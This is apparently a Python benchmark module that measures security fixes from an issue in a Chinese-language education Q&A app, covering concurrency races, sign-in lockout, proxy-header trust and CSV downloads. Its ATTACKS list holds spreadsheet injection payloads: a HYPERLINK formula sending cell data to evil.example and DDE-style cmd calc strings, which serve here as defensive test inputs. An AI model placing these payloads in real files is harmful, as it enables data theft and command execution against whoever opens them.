"""Issue #41's figures for bench/security_checks.py: one measured line per finding fixed on the hardening branch
(2, 3, 5, 6, 7, 8 and 9; the reuse discount, the gap board and the console items are measured by their own
benches), on each engine where storage is involved.

Each function does what the probe did against the real stores on a fresh database (real concurrent sessions for
the races) and returns the Chinese line with the number it measured; nothing here is a constant copied from a test.
"""

from __future__ import annotations

import os
import random
import subprocess
import sys
import tempfile
import threading
from datetime import timedelta
from pathlib import Path

from sqlalchemy import func, select

from core.errors import AccountLocked, AuthError, XiaoEError
from core.stores.accounts import AccountStore
from core.stores.db import Database

ROOT = Path(__file__).resolve().parents[1]
ATTACKS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "学费\x1b[31m多少\x07钱", "\t=1+1")


def item2_audit_row(url: str) -> str:
    from core.stores.glossary import glossary_changes
    from core.stores.glossary_admin import GlossaryAdmin
    from core.stores.roles import User

    db = Database(url)
    glossary = GlossaryAdmin(db)
    approved, audited = 0, 0
    for n in range(5):
        proposal = glossary.propose(User("amy", "顾问 Amy", "consultant"), "退费", f"退钱呀{n}").proposal_id
        glossary.approve(User("boss", "王校长", "admin"), proposal)
        approved += 1
    with db.read() as conn:
        audited = conn.execute(select(func.count()).select_from(glossary_changes)
                               .where(glossary_changes.c.action == "add")).scalar_one()
    db.dispose()
    return f"批准 {approved} 条同义词提议：同义词表变动记录 {audited} 条"


def item3_approved_races(url: str, rounds: int = 3) -> str:
    db = Database(url, busy_timeout_ms=20_000)
    two_items = sum(_two_items_round(db, n) for n in range(rounds))
    retires = sum(_retire_round(db, n) for n in range(rounds))
    links = sum(_link_round(db, n) for n in range(rounds))
    db.dispose()
    return (f"同一问题的两条目同时通过：{two_items}/{rounds} 轮只留 1 条在用的已审答案；两人同时停用：{retires}/{rounds} 轮恰好一人成功、"
            f"1 行停用记录；停用与加问法同时：{links}/{rounds} 轮问法没有加到已停用的答案上（两个会话在写之前会合）")


def _answer(question: str):
    from tests.stores.test_approved import answer

    return answer(question, "三级学费 4800 元[1]。")


def _two_items_round(db: Database, n: int) -> bool:
    from core.stores.approved import approved_answers, key_of
    from core.stores.review import ReviewStore
    from tests.db_race import MeetBefore, race

    review = ReviewStore(db)
    question = f"三级学费多少（第{n}轮）"
    items = [review.enqueue(_answer(q), origin="manual", flagged_by="李老师", fingerprint="fp")
             for q in (question, question + "？")]
    with MeetBefore(db.engine, r"^\s*INSERT INTO approved_answers"):
        race(*(lambda i=i: review.decide(i, action="approve", reviewer="李老师", expected_version=1) for i in items))
    with db.read() as conn:
        live = conn.execute(select(func.count()).select_from(approved_answers).where(
            approved_answers.c.question_key == key_of(question), approved_answers.c.status != "retired")).scalar_one()
    return live == 1


def _new_answer(db: Database, n: int, label: str) -> int:
    from core.stores.approved import ApprovedStore
    from core.stores.review import ReviewStore

    review = ReviewStore(db)
    question = f"{label}学费多少（第{n}轮）" if label else "三级学费多少"  # a wording can only join one without figures
    item = review.enqueue(_answer(question), origin="manual", flagged_by="李老师", fingerprint="fp")
    review.decide(item, action="approve", reviewer="李老师", expected_version=1)
    return ApprovedStore(db).for_item(item).id


def _retire_round(db: Database, n: int) -> bool:
    from core.stores.approved import ApprovedStore, approved_history
    from core.stores.roles import User
    from tests.db_race import MeetBefore, race

    approved, answer_id = ApprovedStore(db), _new_answer(db, n, "停用")
    with MeetBefore(db.engine, r"^\s*UPDATE approved_answers"):
        outcomes = race(lambda: approved.retire(User("boss", "boss", "admin"), answer_id),
                        lambda: approved.retire(User("chief", "chief", "admin"), answer_id))
    with db.read() as conn:
        lines = conn.execute(select(func.count()).select_from(approved_history).where(
            approved_history.c.answer_id == answer_id, approved_history.c.action == "retire")).scalar_one()
    return sum(not isinstance(o, BaseException) for o in outcomes) == 1 and lines == 1


def _link_round(db: Database, n: int) -> bool:
    from core.stores.approved import ApprovedStore, approved_history
    from core.stores.roles import User
    from tests.security.test_41_03_approved_answer_races import HoldBefore

    approved = ApprovedStore(db)
    answer_id = _new_answer(db, n, "")  # 「三级学费多少」 again: the last round's answer is retired by now
    retired, linked = threading.Event(), []

    def link() -> None:
        try:
            linked.append(approved.link_question(User("amy", "amy", "consultant"), answer_id, "三级课程收费标准"))
        except XiaoEError as error:
            linked.append(error)

    with HoldBefore(db.engine, r"^\s*INSERT INTO approved_questions", retired) as hold:
        thread = threading.Thread(target=link)
        thread.start()
        if not hold.held.wait(30):
            raise RuntimeError(f"加问法没有走到写入那一步：{linked}")
        try:
            approved.retire(User("boss", "boss", "admin"), answer_id)
        except XiaoEError:
            pass
        retired.set()
        thread.join(timeout=30)
    with db.read() as conn:
        actions = conn.execute(select(approved_history.c.action).where(approved_history.c.answer_id == answer_id)
                               .order_by(approved_history.c.id)).scalars().all()
    return "link" not in actions[actions.index("retire"):] if "retire" in actions else True


def item5_sign_in(url: str) -> str:
    from core.settings import Settings
    from core.stores.client_address import client_source, server_rewriters
    from core.stores.sessions import SessionStore
    from tests.auth_helpers import FAST_HASHER, PASSWORD, Clock, add_staff

    clock = Clock()
    accounts = AccountStore(Database(url), hasher=FAST_HASHER, now=clock)
    add_staff(accounts)
    signer = SessionStore(accounts, now=clock)
    for _ in range(5):
        try:
            signer.sign_in("boss", "wrong-password-x")
        except AuthError:
            pass
    start, refused, waited, inside = clock.now, 0, 0.0, None
    while clock.now - start < timedelta(minutes=40) and inside is None:
        until = signer.locked_until("boss")
        wait = (until - clock.now).total_seconds() if until else 0.0
        waited += wait
        clock.advance(seconds=wait / 2)
        try:
            signer.sign_in("boss", PASSWORD)
            inside = clock.now - start
        except AccountLocked:
            refused += 1
        clock.advance(seconds=wait / 2)
        try:
            signer.sign_in("boss", "wrong-password-x")
        except AuthError:
            pass
    accounts.db.dispose()
    default = Settings.from_env({}).trusted_proxy_networks
    none = Settings.from_env({"XIAOE_TRUSTED_PROXIES": "none"}).trusted_proxy_networks
    unlisted = client_source("10.0.0.5", "198.51.100.23", default)
    rewritten = client_source("198.51.100.7", "198.51.100.7", none, server_trusts=server_rewriters(None))
    owner = (f"第 {inside.total_seconds() / 60:.1f} 分钟进去，之前被拒 {refused} 次" if inside
             else f"40 分钟里没进去（被拒 {refused} 次）")
    return (f"每次等待结束时输错一次、本人在等待中间输对：{owner}，等待共 {waited:.0f} 秒；"
            f"没登记的内网代理 10.0.0.5 带 X-Forwarded-For → 来源 {unlisted or '未知'}；"
            f"XIAOE_TRUSTED_PROXIES=none 时本机连接伪造的 X-Forwarded-For（被 uvicorn 改写）→ 来源 {rewritten or '未知'}")


def item6_downloads() -> str:
    import csv
    import io

    from core.cells import FORMULA_PREFIXES
    from core.evaluation.batch import rows_to_csv
    from core.sets.format import LabelledQuestion, QuestionSet

    def unsafe(data: bytes) -> tuple[int, int]:
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
        controls = sum(any(ord(ch) < 32 and ch not in "\t\n\r" or 0x7f <= ord(ch) <= 0x9f for ch in c) for c in cells)
        return sum(c.startswith(FORMULA_PREFIXES) for c in cells), controls

    questions = QuestionSet(tuple(LabelledQuestion(question=q, expected=None, line=n)
                                  for n, q in enumerate(ATTACKS[:4], start=2)))
    batch = rows_to_csv([{"问题": q, "回答": q} for q in ATTACKS])
    download = getattr(QuestionSet, "to_download", None) or (lambda qs: qs.to_csv().encode("utf-8-sig"))  # before #41
    set_formulas, set_controls = unsafe(download(questions))
    batch_formulas, batch_controls = unsafe(batch)
    return (f"「下载这一版（CSV）」含 {len(ATTACKS[:4])} 条攻击问题：公式开头的格 {set_formulas}、含控制字符的格 {set_controls}；"
            f"「下载批量结果（CSV）」{len(ATTACKS)} 行：公式开头的格 {batch_formulas}、含控制字符的格 {batch_controls}")


def item7_sign_in_beside_writes(url: str) -> str:
    from argon2 import PasswordHasher

    from core.errors import StoreError
    from core.stores.review import ReviewStore
    from core.stores.sessions import SessionStore
    from tests.auth_helpers import add_staff
    from tests.security.helpers import flagged_answer

    signing = Database(url, busy_timeout_ms=60_000)
    accounts = AccountStore(signing, hasher=PasswordHasher())  # argon2's default cost, as deployed
    add_staff(accounts)
    signer = SessionStore(accounts)
    staff = ReviewStore(Database(url))  # the console's default wait (5 s)
    stop, attempts = threading.Event(), [0] * 4

    def anonymous(n: int) -> None:
        rng = random.Random(n)
        while not stop.is_set():
            try:
                signer.sign_in(rng.choice(["boss", "amy", f"guess{rng.randrange(10**6)}"]), "wrong password")
            except AuthError:
                pass
            attempts[n] += 1

    loops = [threading.Thread(target=anonymous, args=(n,)) for n in range(4)]
    for loop in loops:
        loop.start()
    failed = 0
    for n in range(9):
        stop.wait(1.0)  # the probe's pace: one staff write a second beside the loops
        try:
            staff.enqueue(flagged_answer(question=f"第 {n} 个问题：退费怎么算？"), origin="manual", flagged_by="李老师",
                          fingerprint="fp")
        except StoreError:
            failed += 1
    stop.set()
    for loop in loops:
        loop.join(timeout=120)
    staff.db.dispose()
    signing.dispose()
    return f"4 个匿名登录循环（共 {sum(attempts)} 次尝试，默认 argon2 参数）旁的 9 次员工写入：失败 {failed} 次"


def item8_eval_inputs() -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("XIAOE_")}
    with tempfile.TemporaryDirectory() as folder:
        env.update({"XIAOE_DATA_DIR": folder, "XIAOE_CORPUS_DIR": str(ROOT / "corpus")})
        reuse = Path(folder) / "reuse.csv"
        reuse.write_text("id,approved_question,approved_answer,new_question,expect,kind,edit\n"
                         "s1,三级学费多少,流利级（三级）学费 4800 元。,三级学费多少钱,no_reuse,stale,"
                         "01-口语课分级说明.md|4799 元|4900 元\n", encoding="utf-8")

        def run(*argv: str) -> tuple[int, str]:
            done = subprocess.run([sys.executable, "-m", "core", *argv], cwd=ROOT, env=env, capture_output=True,
                                  text=True, timeout=600)
            return done.returncode, done.stderr.strip().splitlines()[-1][:40] if done.stderr.strip() else ""

        empty, said_empty = run("eval", "--save-run", "")
        control, said_control = run("eval", "--save-run", "第一次\x1b[31m")
        edit, said_edit = run("eval", "--reuse", str(reuse))
    return (f"eval --save-run \"\"：退出码 {empty}（{said_empty}…）；带 ESC 的运行名：退出码 {control}；"
            f"eval --reuse 的 edit 原文不在资料里：退出码 {edit}（{said_edit}…）")


def item9_load(base_url: str) -> str:
    engines = "postgresql,sqlite" if base_url else "sqlite"
    env = {k: v for k, v in os.environ.items() if not k.startswith("XIAOE_")}
    done = subprocess.run([sys.executable, "-m", "bench.load", "--consultants", "5", "--seconds", "5", "--think", "0.5",
                           "--engines", engines, "--postgres-url", base_url], cwd=ROOT, env=env, capture_output=True,
                          text=True, timeout=900)
    rows = [line.split(" | ") for line in done.stdout.splitlines() if line.startswith(("postgresql | ", "sqlite | "))]
    shown = "；".join(f"{r[0]} 5 名顾问 5 秒：提问 {r[3]}、错误 {r[11]}、丢失更新 {r[12]}、连接数峰值 {r[13]}"
                      for r in rows[:len(engines.split(","))])
    return f"python -m bench.load 退出码 {done.returncode}：{shown}（50/100 名的数字见 docs/benchmarks.md）"


ITEMS = [("2 审计行不看 rowcount", item2_audit_row, True), ("3 已审答案的并发", item3_approved_races, True),
         ("5 登录等待不能被占着、来源", item5_sign_in, True), ("6 下载文件防公式", item6_downloads, False),
         ("7 argon2 不占写锁", item7_sign_in_beside_writes, True), ("8 评测的怪输入", item8_eval_inputs, False)]


def lines(engines: list[tuple[str, callable]], *, base_url: str = "") -> list[str]:
    """One line per finding (and per engine where storage is involved); `engines` are (name, fresh URL factory)."""
    out = []
    for title, check, stored in ITEMS:
        try:
            if stored:
                for engine, fresh in engines:
                    with fresh() as url:
                        out.append(f"#41-{title}（{engine}）：{check(url)}")
            else:
                out.append(f"#41-{title}：{check()}")
        except (XiaoEError, OSError, RuntimeError, subprocess.SubprocessError) as error:
            out.append(f"#41-{title}：测量失败：{error}")
    try:
        out.append(f"#41-9 负载测试：{item9_load(base_url)}")
    except (OSError, subprocess.SubprocessError) as error:
        out.append(f"#41-9 负载测试：测量失败：{error}")
    return out

